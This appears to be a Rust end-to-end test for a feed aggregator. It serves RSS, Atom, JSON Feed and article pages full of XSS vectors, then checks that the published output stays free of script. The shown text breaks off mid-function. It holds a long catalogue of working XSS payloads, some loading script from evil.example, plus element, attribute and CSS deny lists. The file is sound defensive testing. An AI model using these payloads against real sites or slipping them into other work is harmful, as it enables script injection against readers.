//! Hostile sources end to end on loopback: RSS 2.0, Atom, JSON Feed and article pages
//! that put XSS vectors in every field they have (titles, summaries, bodies, links,
//! authors, categories, enclosures, page meta and JSON-LD), and a configuration whose
//! own names are hostile. Every published path is parsed (XML, JSON, HTML) and walked:
//! nothing a reader's browser could run may come out, titles stay text, and the HTML
//! pages are served with a Content-Security-Policy that forbids inline scripts.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::{Arc, Mutex};
use std::time::Instant;

use axum::Router;
use axum::extract::{Path as UrlPath, State};
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use kawaraban::config::Config;
use kawaraban::ingest::{Ingest, run_pass};
use kawaraban::publish::site::{Site, SiteCache};
use kawaraban::store::Store;
use quick_xml::events::Event;
use scraper::{ElementRef, Html, Node, Selector};
use serde_json::{Value, json};

/// Markup meant to run script once it reaches a page: script in many spellings, event
/// handlers, dangerous URL schemes hidden by case, entities, white space and control
/// characters, SVG and MathML, srcdoc, meta refresh, base, CSS, parser differentials,
/// and unclosed constructs that try to swallow what follows.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script\u{c}>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=\"text/javascript\">document.write('<img src=x onerror=alert(1)>')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=\"https://ok.example/i.png\" srcset=\"javascript:alert(1) 1x\">",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\">ok</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<frameset onload=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<p style=\"width:expression(alert(1))\">css</p>",
    "<p style=\"width:exp/**/ression(alert(1))\">css</p>",
    "<div style=\"background:url(javascript:alert(1))\">css</div>",
    "<div style=\"background:url(&#106;avascript:alert(1))\">css</div>",
    "<div style=\"-moz-binding:url(https://evil.example/x.xml#xss)\">css</div>",
    "<img src=\"https://ok.example/i.png\" style=\"behavior:url(x.htc)\">",
    "<style>@import 'javascript:alert(1)';p{background:url(\"javascript:alert(1)\")}</style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\" &#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"ja\u{0}vascript:alert(1)\">x</a>",
    "<a href=\"\u{feff}javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"VbScRiPt:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"DaTa:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"&#100;ata:text/html,<script>alert(1)</script>\">x</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"javascript:alert(1)\">",
    "<q cite=\"javascript:alert(1)\">q</q><blockquote cite=\"vbscript:x\">b</blockquote>",
    "<table background=\"javascript:alert(1)\"><tr><td><a href=javascript:alert(1)>cell</a></td></tr></table>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object type=\"text/x-scriptlet\" data=\"https://evil.example/\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=\"X.class\"></applet>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"10\">x</text></a></svg>",
    "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>",
    "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=https://evil.example/\">",
    "<base href=\"javascript:alert(1)//\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<button form=\"f\" formaction=\"javascript:alert(1)\">x</button>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!-- unclosed comment <script>alert(1)</script>",
    "<p title=\"</p><script>alert(1)</script>\">x</p>",
    "<img src=\"x",
    "<a href=\"javascript:alert(1)\"",
    "<textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<title><script>alert(1)</script></title>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<a href=\"mocha:alert(1)\">x</a><a href=\"livescript:alert(1)\">y</a>",
];

/// URLs for the fields that hold one (links, enclosures, author URIs, images). `{n}`
/// keeps the http ones distinct, so each entry stays its own article.
const URLS: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "java&Tab;script:alert({n})",
    "javascript&colon;alert({n})",
    "vbscript:msgbox(1)",
    "VBSCRIPT:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "DaTa:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "http://x.example/{n}\"onmouseover=\"alert(1)",
    "http://x.example/{n}'><script>alert(1)</script>",
    "https://x.example/{n}?q=<script>alert(1)</script>",
    "//evil.example/{n}<svg onload=alert(1)>",
];

/// Category names, blog title and author as a careless or hostile operator writes them.
const CATEGORY_DEFAULT: &str = "<script>alert('cat')</script>";
const CATEGORY_KEYWORD: &str = "\"><img src=x onerror=alert('cat2')>";
const CATEGORY_SLUG: &str = "javascript:alert(1)";

/// The `i`th URL vector, made distinct per source (`tag`) and item.
fn url(tag: &str, i: usize) -> String {
    URLS[i % URLS.len()].replace("{n}", &format!("{tag}{i}"))
}

/// XML 1.0 cannot carry most control characters; vectors with them go to the JSON Feed
/// and the pages only.
fn xml_safe(s: &str) -> bool {
    s.chars().all(xml_char)
}

fn xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | ' '..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..)
}

fn x(s: &str) -> String {
    html_escape::encode_quoted_attribute(s).into_owned()
}

/// Distinct prose per item, so the judge sees separate stories instead of folding
/// them, and so the page extractor finds a body worth keeping.
fn filler(seed: usize, words: usize) -> String {
    const SYL: &[&str] = &[
        "ka", "ri", "mo", "te", "su", "na", "hi", "yo", "ba", "zu", "ke", "ro", "mi", "pa", "do",
        "wu",
    ];
    let mut state = (seed as u64).wrapping_mul(6364136223846793005) ^ 0x9e3779b97f4a7c15;
    let mut out = format!("Report {} says", 1000 + seed);
    for k in 0..words {
        state = state
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        let w: String = (0..3)
            .map(|j| SYL[((state >> (20 + 4 * j)) & 15) as usize])
            .collect();
        out.push(' ');
        out.push_str(&w);
        if k % 12 == 11 {
            out.push('.');
        }
    }
    out.push('.');
    // Two categories are chosen by keyword; the rest fall to the default one.
    match seed % 5 {
        1 => out.push_str(" zzkeyword."),
        2 => out.push_str(" yykeyword."),
        _ => {}
    }
    out
}

/// How many vectors each source field carried.
type Tally = Arc<Mutex<BTreeMap<&'static str, usize>>>;

fn count(t: &Tally, field: &'static str, n: usize) {
    *t.lock().unwrap().entry(field).or_default() += n;
}

fn rss_feed(host: &str, t: &Tally) -> String {
    let mut items = String::new();
    for (i, v) in MARKUP.iter().enumerate().filter(|(_, v)| xml_safe(v)) {
        let u = url("rss", i);
        let u = if xml_safe(&u) {
            u
        } else {
            "javascript:alert(1)".into()
        };
        let seed = i;
        let mut item = format!(
            "<item><title>{}</title><link>{}</link><guid isPermaLink=\"false\">rss-{i}</guid>",
            x(v),
            x(&u)
        );
        item.push_str(&format!(
            "<description>{}</description>",
            x(&format!("<p>{}</p>{v}", filler(seed, 30)))
        ));
        count(t, "rss description", 1);
        // With content:encoded the description is the summary; without it, the body.
        if i % 2 == 0 {
            item.push_str(&format!(
                "<content:encoded>{}</content:encoded>",
                x(&format!(
                    "<p>{}</p>{v}<p>{}</p>",
                    filler(seed, 30),
                    filler(seed + 5000, 10)
                ))
            ));
            count(t, "rss content:encoded", 1);
        }
        item.push_str(&format!(
            "<author>{}</author><dc:creator>{}</dc:creator><category>{}</category><dc:subject>{}</dc:subject><enclosure url=\"{}\" length=\"1\" type=\"audio/mpeg\"/><comments>{}</comments><pubDate>Tue, 30 Apr 2024 {:02}:{:02}:00 +0000</pubDate></item>\n",
            x(v),
            x(v),
            x(v),
            x(v),
            x(&u),
            x(&u),
            i / 60,
            i % 60
        ));
        for f in [
            "rss title",
            "rss author",
            "rss dc:creator",
            "rss category",
            "rss dc:subject",
        ] {
            count(t, f, 1);
        }
        for f in ["rss link", "rss enclosure url", "rss comments"] {
            count(t, f, 1);
        }
        items.push_str(&item);
    }
    format!(
        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><channel><title>{}</title><link>http://{host}/</link><description>{}</description>\n{items}</channel></rss>",
        x(MARKUP[0]),
        x(MARKUP[8])
    )
}

fn atom_feed(host: &str, t: &Tally) -> String {
    let mut entries = String::new();
    for (i, v) in MARKUP.iter().enumerate().filter(|(_, v)| xml_safe(v)) {
        let u = url("atom", i + 3);
        let u = if xml_safe(&u) {
            u
        } else {
            "vbscript:msgbox(1)".into()
        };
        let seed = 10_000 + i;
        // Half the titles say they are HTML, half plain text: both must end up as text.
        let title_type = if i % 2 == 0 { "html" } else { "text" };
        count(
            t,
            if i % 2 == 0 {
                "atom title type=html"
            } else {
                "atom title type=text"
            },
            1,
        );
        let mut e = format!(
            "<entry><title type=\"{title_type}\">{}</title><id>urn:hostile:atom-{i}</id><updated>2024-05-01T{:02}:{:02}:00Z</updated><link rel=\"alternate\" href=\"{}\"/><link rel=\"enclosure\" href=\"{}\" type=\"audio/mpeg\"/><author><name>{}</name><uri>{}</uri></author><category term=\"{}\" label=\"{}\"/><summary type=\"html\">{}</summary>",
            x(v),
            i / 60,
            i % 60,
            x(&u),
            x(&u),
            x(v),
            x(&u),
            x(v),
            x(v),
            x(&format!("<p>{}</p>{v}", filler(seed, 30)))
        );
        for f in [
            "atom link",
            "atom enclosure",
            "atom author name",
            "atom author uri",
            "atom category",
            "atom summary",
        ] {
            count(t, f, 1);
        }
        if i % 2 == 0 {
            e.push_str(&format!(
                "<content type=\"html\">{}</content>",
                x(&format!(
                    "<p>{}</p>{v}<p>{}</p>",
                    filler(seed, 30),
                    filler(seed + 5000, 10)
                ))
            ));
            count(t, "atom content", 1);
        }
        e.push_str("</entry>\n");
        entries.push_str(&e);
    }
    format!(
        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><title type=\"html\">{}</title><id>http://{host}/atom.xml</id><updated>2024-05-01T00:00:00Z</updated>\n{entries}</feed>",
        x(MARKUP[1])
    )
}

fn json_feed(host: &str, t: &Tally) -> String {
    let items: Vec<Value> = MARKUP
        .iter()
        .enumerate()
        .map(|(i, v)| {
            let u = url("json", i + 7);
            let seed = 20_000 + i;
            for f in [
                "json title",
                "json content_html",
                "json summary",
                "json url",
                "json external_url",
                "json image",
                "json author name",
                "json author url",
                "json tags",
                "json attachment url",
            ] {
                count(t, f, 1);
            }
            json!({
                "id": format!("json-{i}"),
                "url": u,
                "external_url": u,
                "title": v,
                "content_html": format!("<p>{}</p>{v}<p>{}</p>", filler(seed, 30), filler(seed + 5000, 10)),
                "summary": v,
                "image": u,
                "date_published": format!("2024-05-02T{:02}:{:02}:00Z", i / 60, i % 60),
                "authors": [{"name": v, "url": u}],
                "tags": [v],
                "attachments": [{"url": u, "mime_type": "audio/mpeg"}],
            })
        })
        .collect();
    json!({
        "version": "https://jsonfeed.org/version/1.1",
        "title": MARKUP[2],
        "home_page_url": format!("http://{host}/"),
        "items": items,
    })
    .to_string()
}

/// Article pages per index page: under the number of links an index page may give.
const PAGES_PER_INDEX: usize = 40;

fn index_page(k: usize) -> String {
    let links: String = (k * PAGES_PER_INDEX..((k + 1) * PAGES_PER_INDEX).min(MARKUP.len()))
        .map(|i| format!("<li><a class=\"story\" href=\"/p/{i}.html\">story</a></li>"))
        .collect();
    format!("<html><body><ul>{links}</ul></body></html>")
}

/// JSON inside `<script>`: `<` escaped so a vector cannot end the element early.
fn ld(v: &Value) -> String {
    v.to_string().replace('<', "\\u003c")
}

fn article_page(i: usize, t: &Tally) -> String {
    let v = MARKUP[i];
    let seed = 30_000 + i;
    let mut head = format!(
        "<meta charset=\"utf-8\"><title>{v}</title><base href=\"javascript:alert(1)//\"><meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\"><meta name=\"author\" content=\"{}\">",
        x(v)
    );
    count(t, "page <title>", 1);
    count(t, "page meta author", 1);
    count(t, "page <base href>+<meta refresh>", 1);
    let mut ld_article = json!({
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "author": {"@type": "Person", "name": v},
        "publisher": {"@type": "Organization", "name": v},
        "datePublished": format!("2024-05-03T{:02}:{:02}:00Z", i / 60, i % 60),
    });
    count(t, "page JSON-LD author", 1);
    count(t, "page JSON-LD publisher", 1);
    // Which of the page's title sources wins varies, so each gets the vectors.
    match i % 3 {
        0 => {
            ld_article["headline"] = json!(v);
            count(t, "page JSON-LD headline", 1);
        }
        1 => {
            head.push_str(&format!(
                "<meta property=\"og:title\" content=\"{}\">",
                x(v)
            ));
            count(t, "page og:title", 1);
        }
        _ => {}
    }
    // A long articleBody replaces the page's body: the JSON-LD text path.
    if i.is_multiple_of(4) {
        ld_article["articleBody"] = json!(format!(
            "{}\n{v}\n{}\n{v}",
            filler(seed + 7000, 120),
            filler(seed + 8000, 120)
        ));
        count(t, "page JSON-LD articleBody", 1);
    }
    head.push_str(&format!(
        "<script type=\"application/ld+json\">{}</script>",
        ld(&ld_article)
    ));
    // Portals credit the outlet in the body's last line; the page names it here.
    let credit = if i.is_multiple_of(2) {
        count(t, "page credit line", 1);
        format!("<p>Source: {v}</p>")
    } else {
        String::new()
    };
    // Markup that swallows the rest of the page (an unclosed comment, `<plaintext>`)
    // leaves no article when it comes first; in the body it follows the text.
    let h1 = if i % 3 == 2 {
        count(t, "page <h1>", 1);
        v
    } else {
        "Headline"
    };
    count(t, "page body", 2);
    format!(
        "<!DOCTYPE html><html><head>{head}</head><body><header><nav><a href=\"/\">home</a></nav></header><article><h1>{h1}</h1><div class=\"article-body\"><p>{}</p><p>{}</p>{v}<p><a href=\"rel/{i}.html\">relative</a> {}</p>{v}{credit}</div></article><footer>footer</footer></body></html>",
        filler(seed, 60),
        filler(seed + 5000, 60),
        filler(seed + 6000, 20)
    )
}

#[derive(Clone)]
struct Origin {
    host: String,
    tally: Tally,
}

async fn serve(State(o): State<Origin>, UrlPath(path): UrlPath<String>) -> Response {
    let t = &o.tally;
    match path.as_str() {
        "rss.xml" => (
            [(header::CONTENT_TYPE, "application/rss+xml")],
            rss_feed(&o.host, t),
        )
            .into_response(),
        "atom.xml" => (
            [(header::CONTENT_TYPE, "application/atom+xml")],
            atom_feed(&o.host, t),
        )
            .into_response(),
        "feed.json" => (
            [(header::CONTENT_TYPE, "application/feed+json")],
            json_feed(&o.host, t),
        )
            .into_response(),
        p => {
            let html = if let Some(k) = p
                .strip_prefix("index/")
                .and_then(|s| s.strip_suffix(".html"))
                .and_then(|s| s.parse::<usize>().ok())
            {
                Some(index_page(k))
            } else {
                p.strip_prefix("p/")
                    .and_then(|s| s.strip_suffix(".html"))
                    .and_then(|s| s.parse::<usize>().ok())
                    .filter(|i| *i < MARKUP.len())
                    .map(|i| article_page(i, t))
            };
            match html {
                Some(h) => {
                    ([(header::CONTENT_TYPE, "text/html; charset=utf-8")], h).into_response()
                }
                None => (StatusCode::NOT_FOUND, "not here").into_response(),
            }
        }
    }
}

fn toml_str(s: &str) -> String {
    // A JSON string is a TOML basic string, escapes included.
    serde_json::to_string(s).unwrap()
}

fn config_text(host: &str, db: &std::path::Path) -> String {
    let indexes = MARKUP.len().div_ceil(PAGES_PER_INDEX);
    let mut text = format!(
        r#"[blog]
title = {}
author = {}
description = {}
base_url = "http://blog.example/"
max_entries = 1000
page_size = 1000
[fetch]
allow_private = ["127.0.0.0/8"]
[store]
path = {}
[[category]]
name = {}
default = true
[[category]]
name = {}
keywords = ["zzkeyword"]
[[category]]
name = {}
slug = {}
keywords = ["yykeyword"]
[[source]]
name = "rss"
url = "http://{host}/rss.xml"
full_text = "never"
[[source]]
name = "atom"
url = "http://{host}/atom.xml"
full_text = "never"
[[source]]
name = "json"
url = "http://{host}/feed.json"
full_text = "never"
republish = "excerpt"
"#,
        toml_str("<script>alert('blog')</script>Blog"),
        toml_str("\"><img src=x onerror=alert('author')>"),
        toml_str("<svg onload=alert('description')>"),
        toml_str(&db.display().to_string()),
        toml_str(CATEGORY_DEFAULT),
        toml_str(CATEGORY_KEYWORD),
        toml_str(CATEGORY_SLUG),
        toml_str(CATEGORY_SLUG),
    );
    for k in 0..indexes {
        text.push_str(&format!(
            "[[source]]\nname = \"pages {k}\"\npage = \"http://{host}/index/{k}.html\"\nlinks = \"a.story\"\nfull_text = \"always\"\npublisher_from_page = true\n"
        ));
    }
    text
}

// ---------------------------------------------------------------------------------
// What a browser would make of the output.

/// Elements that run script, load active content, or change how the page is read.
const FORBIDDEN: &[&str] = &[
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "meta",
    "base",
    "link",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "option",
    "noscript",
    "template",
    "video",
    "audio",
    "source",
    "track",
    "portal",
    "isindex",
    "xmp",
    "plaintext",
    "noembed",
    "noframes",
    "marquee",
    "title",
    "param",
    "canvas",
    "details",
];

/// Attributes that hold a URL a browser follows or loads.
const URL_ATTRS: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "cite",
    "background",
    "poster",
    "lowsrc",
    "dynsrc",
    "codebase",
    "longdesc",
    "usemap",
    "ping",
    "manifest",
    "icon",
    "profile",
    "xlink:href",
    "srcset",
];

/// What a URL's scheme is once a browser has read it: control characters and white
/// space dropped (browsers strip the ends and tabs/newlines inside; dropping all of it
/// also catches sloppier readers), entities decoded once more for readers that decode
/// twice, lower-cased.
fn scheme_of(v: &str) -> Option<String> {
    let decoded = html_escape::decode_html_entities(v);
    let s: String = decoded
        .chars()
        .filter(|c| !(c.is_control() || c.is_whitespace() || matches!(c, '\u{feff}' | '\u{200b}')))
        .collect::<String>()
        .to_ascii_lowercase();
    let (scheme, _) = s.split_once(':')?;
    let mut chars = scheme.chars();
    (chars.next()?.is_ascii_alphabetic()
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')))
    .then(|| scheme.to_owned())
}

/// A URL a reader may follow: http(s) or mailto, or relative (resolved against an
/// http(s) page).
fn safe_url(v: &str) -> bool {
    scheme_of(v).is_none_or(|s| matches!(s.as_str(), "http" | "https" | "mailto"))
}

fn bad_css(v: &str) -> bool {
    let s: String = v
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase()
        .replace("/**/", "");
    [
        "expression(",
        "javascript:",
        "vbscript:",
        "url(",
        "-moz-binding",
        "behavior:",
        "@import",
    ]
    .iter()
    .any(|b| s.contains(b))
}

/// Where one document was found unsafe; empty when it is safe.
#[derive(Default)]
struct Findings(Vec<String>);

impl Findings {
    fn add(&mut self, what: impl Into<String>) {
        self.0.push(what.into());
    }
}

/// Walks every element of parsed HTML. `page` allows what the blog's own template puts
/// in `<head>`: `<meta charset>`, the viewport, the stylesheet and feed links, `<title>`.
fn check_tree(ctx: &str, doc: &Html, page: bool, f: &mut Findings) {
    for node in doc.tree.nodes() {
        let Node::Element(e) = node.value() else {
            continue;
        };
        let name = e.name().to_ascii_lowercase();
        let in_head = node
            .parent()
            .and_then(|p| p.value().as_element().map(|p| p.name() == "head"))
            .unwrap_or(false);
        let template_head = page
            && in_head
            && match name.as_str() {
                "meta" => {
                    e.attr("http-equiv").is_none()
                        && (e.attr("charset").is_some() || e.attr("name") == Some("viewport"))
                }
                "link" => matches!(e.attr("rel"), Some("stylesheet" | "alternate")),
                "title" => true,
                _ => false,
            };
        if FORBIDDEN.contains(&name.as_str()) && !template_head {
            f.add(format!("{ctx}: <{name}> element"));
        }
        for (attr, value) in e.attrs() {
            let a = attr.to_ascii_lowercase();
            if a.starts_with("on") {
                f.add(format!("{ctx}: <{name} {a}={value:?}>"));
            }
            if a == "srcdoc" || a == "http-equiv" {
                f.add(format!("{ctx}: <{name} {a}>"));
            }
            if a == "style" && bad_css(value) {
                f.add(format!("{ctx}: <{name} style={value:?}>"));
            }
            let url_attr = URL_ATTRS.contains(&a.as_str()) || a.ends_with(":href");
            if url_attr {
                let urls: Vec<&str> = if a == "srcset" {
                    value
                        .split(',')
                        .filter_map(|c| c.split_whitespace().next())
                        .collect()
                } else {
                    vec![value]
                };
                for u in urls {
                    if !safe_url(u) {
                        f.add(format!("{ctx}: <{name} {a}={u:?}>"));
                    }
                }
            }
            // Content may only link out to absolute http(s): relative URLs resolve
            // against whatever page a reader shows the entry on.
            if !page
                && url_attr
                && !(value.starts_with("http://")
                    || value.starts_with("https://")
                    || value.starts_with("mailto:"))
            {
                f.add(format!("{ctx}: <{name} {a}={value:?}> is not absolute"));
            }
        }
    }
}

/// An HTML payload of a feed (entry content, RSS description): safe, and still ending
/// with the attribution paragraph as an element, which an unclosed tag, comment or
/// raw-text element in the source would have swallowed.
fn check_payload(ctx: &str, html: &str, f: &mut Findings) {
    let doc = Html::parse_fragment(html);
    check_tree(ctx, &doc, false, f);
    let attribution = Selector::parse("p.attribution").unwrap();
    if doc.select(&attribution).next().is_none() {
        f.add(format!(
            "{ctx}: the attribution line was swallowed: {html:?}"
        ));
    }
}

/// Whether text, read as HTML by a reader that should not, makes anything but text;
/// also when the reader's own markup follows it and closes a tag the text left open.
fn markup_in(text: &str) -> bool {
    [text.to_owned(), format!("{text}\"'>")].iter().any(|t| {
        let doc = Html::parse_fragment(t);
        let root = doc.root_element();
        root.descendants()
            .any(|n| n.id() != root.id() && !n.value().is_text())
    })
}

/// A field that must stay text: a title or publisher from a source.
fn check_text(ctx: &str, text: &str, f: &mut Findings) {
    if markup_in(text) {
        f.add(format!("{ctx}: markup in text {text:?}"));
    }
}

// ---------------------------------------------------------------------------------
// XML.

struct XmlElem {
    name: String,
    parent: String,
    attrs: Vec<(String, String)>,
    text: String,
    children: usize,
}

fn read_xml(ctx: &str, body: &[u8]) -> Vec<XmlElem> {
    let text = std::str::from_utf8(body).unwrap_or_else(|e| panic!("{ctx}: {e}"));
    // A character XML cannot carry makes readers reject the whole feed.
    if let Some(c) = text.chars().find(|c| !xml_char(*c)) {
        panic!("{ctx}: {c:?} is not allowed in XML");
    }
    let mut reader = quick_xml::Reader::from_str(text);
    let mut elems: Vec<XmlElem> = Vec::new();
    let mut stack: Vec<usize> = Vec::new();
    let open = |e: &quick_xml::events::BytesStart, stack: &[usize], elems: &mut Vec<XmlElem>| {
        let parent = stack.last().map(|&p| {
            elems[p].children += 1;
            elems[p].name.clone()
        });
        let attrs = e
            .attributes()
            .map(|a| {
                let a = a.unwrap_or_else(|err| panic!("{ctx}: attribute: {err}"));
                (
                    String::from_utf8(a.key.as_ref().as_bytes().to_vec()).unwrap(),
                    a.normalized_value(quick_xml::XmlVersion::Implicit1_0)
                        .unwrap_or_else(|err| panic!("{ctx}: attribute value: {err}"))
                        .into_owned(),
                )
            })
            .collect();
        elems.push(XmlElem {
            name: String::from_utf8(e.name().as_ref().as_bytes().to_vec()).unwrap(),
            parent: parent.unwrap_or_default(),
            attrs,
            text: String::new(),
            children: 0,
        });
    };
    loop {
        match reader.read_event() {
            Ok(Event::Start(e)) => {
                open(&e, &stack, &mut elems);
                stack.push(elems.len() - 1);
            }
            Ok(Event::Empty(e)) => open(&e, &stack, &mut elems),
            Ok(Event::End(_)) => {
                stack.pop();
            }
            Ok(Event::Text(t)) => {
                if let Some(&top) = stack.last() {
                    elems[top].text.push_str(&t.xml10_content());
                }
            }
            Ok(Event::CData(c)) => {
                if let Some(&top) = stack.last() {
                    elems[top].text.push_str(&c.xml10_content());
                }
            }
            Ok(Event::GeneralRef(r)) => {
                let resolved = match r.resolve_char_ref() {
                    Ok(Some(c)) => c.to_string(),
                    _ => {
                        let name = r.xml10_content();
                        quick_xml::escape::resolve_predefined_entity(&name)
                            .unwrap_or_else(|| panic!("{ctx}: unknown entity &{name};"))
                            .to_owned()
                    }
                };
                if let Some(&top) = stack.last() {
                    elems[top].text.push_str(&resolved);
                }
            }
            Ok(Event::Eof) => break,
            Ok(_) => {}
            Err(e) => panic!("{ctx}: not well-formed XML: {e}"),
        }
    }
    assert!(stack.is_empty(), "{ctx}: unclosed elements");
    elems
}

/// Only the elements our writers produce: a vector that broke the escaping would
/// add its own.
const ATOM_ELEMENTS: &[&str] = &[
    "feed",
    "title",
    "subtitle",
    "id",
    "updated",
    "published",
    "author",
    "name",
    "link",
    "generator",
    "entry",
    "category",
    "content",
    "source",
];
const RSS_ELEMENTS: &[&str] = &[
    "rss",
    "channel",
    "title",
    "link",
    "description",
    "language",
    "lastBuildDate",
    "generator",
    "item",
    "guid",
    "pubDate",
    "category",
    "source",
    "dc:creator",
    "dc:publisher",
    "atom:link",
];

/// Text from the operator (blog and category names) must come out exactly as
/// configured; text from sources must not read as markup.
struct Expect {
    operator_text: BTreeSet<String>,
}

impl Expect {
    /// A configured name, or a feed title made of two ("blog - category").
    fn operator(&self, s: &str) -> bool {
        self.operator_text.contains(s)
            || self.operator_text.iter().any(|a| {
                s.strip_prefix(a.as_str())
                    .and_then(|rest| rest.strip_prefix(" - "))
                    .is_some_and(|b| self.operator_text.contains(b))
            })
    }
}

fn check_atom(ctx: &str, body: &[u8], exp: &Expect, f: &mut Findings) -> usize {
    let elems = read_xml(ctx, body);
    let mut entries = 0;
    for e in &elems {
        let at = format!("{ctx} <{}> in <{}>", e.name, e.parent);
        if !ATOM_ELEMENTS.contains(&e.name.as_str()) {
            f.add(format!("{at}: unexpected element"));
        }
        let ty = e
            .attrs
            .iter()
            .find(|(k, _)| k == "type")
            .map(|(_, v)| v.as_str());
        for (k, v) in &e.attrs {
            if matches!(k.as_str(), "href" | "uri" | "scheme" | "src") && !safe_url(v) {
                f.add(format!("{at}: {k}={v:?}"));
            }
            if k == "label" && !exp.operator(v) {
                check_text(&format!("{at} label"), v, f);
            }
        }
        match e.name.as_str() {
            "entry" => entries += 1,
            "content" => {
                if ty != Some("html") || e.children > 0 {
                    f.add(format!(
                        "{at}: content type {ty:?}, {} children",
                        e.children
                    ));
                }
                check_payload(&at, &e.text, f);
            }
            "title" | "subtitle" => {
